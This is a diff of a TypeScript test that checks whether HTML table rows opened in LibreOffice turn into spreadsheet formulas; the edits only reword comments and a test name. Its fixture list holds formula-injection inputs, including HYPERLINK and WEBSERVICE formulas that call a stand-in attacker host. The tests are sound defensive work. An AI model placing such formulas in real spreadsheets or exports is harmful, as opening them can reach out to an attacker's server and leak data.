@@ -6,13 +6,13 @@ import { libreOffice, withConverted } from '../../support/libre-office.ts';
 import { type ReadWorkbook, readXlsx } from '../../support/read-xlsx.ts';
 import { createTemporaryFolder } from '../../support/temporary-folder.ts';
 
-/** What a spreadsheet would run, and what it would take for a number or a day. */
+/** Texts that a spreadsheet would run, or read as a number or a day. */
 const TEXTS = [
   ...['=1+1', '=HYPERLINK("http://attacker.example";"Open")', '=WEBSERVICE("http://attacker.example")'],
   ...['+1+1', '-1+1', '@SUM(A1)', ' =1+1', '0012345678905', '10.20', '30E4', '21-11-2026', 'plain'],
 ];
 
-/** The HTML as LibreOffice has it in a table. */
+/** The HTML as LibreOffice opens it in a table. */
 async function openedByLibreOffice(html: string): Promise<ReadWorkbook> {
   const path = join(createTemporaryFolder(), 'rows.html');
   await writeFile(path, `<html><head><meta charset="utf-8"></head><body>${html}</body></html>`);
@@ -24,7 +24,7 @@ function formulasIn({ sheets }: ReadWorkbook): readonly string[] {
 }
 
 describe('rows copied from a table, where LibreOffice is installed', { timeout: 120_000 }, () => {
-  it('have no formula in them, and texts stay what they are', async ({ skip }) => {
+  it('contain no formula, and texts stay unchanged', async ({ skip }) => {
     skip(libreOffice === null, 'LibreOffice is not installed');
     const rows = TEXTS.map((text) =>
       formatRow([
@@ -33,7 +33,7 @@ describe('rows copied from a table, where LibreOffice is installed', { timeout: 
       ]),
     );
     const { html } = formatTable(['=1+1', 'Prijs'], rows);
-    // What Excel is told means nothing here.
+    // LibreOffice ignores the hints for Excel.
     const forExcel = html.replaceAll(/ sdnum="[^"]*"/g, '');
     expect(formulasIn(await openedByLibreOffice(forExcel))).not.toEqual([]);
 
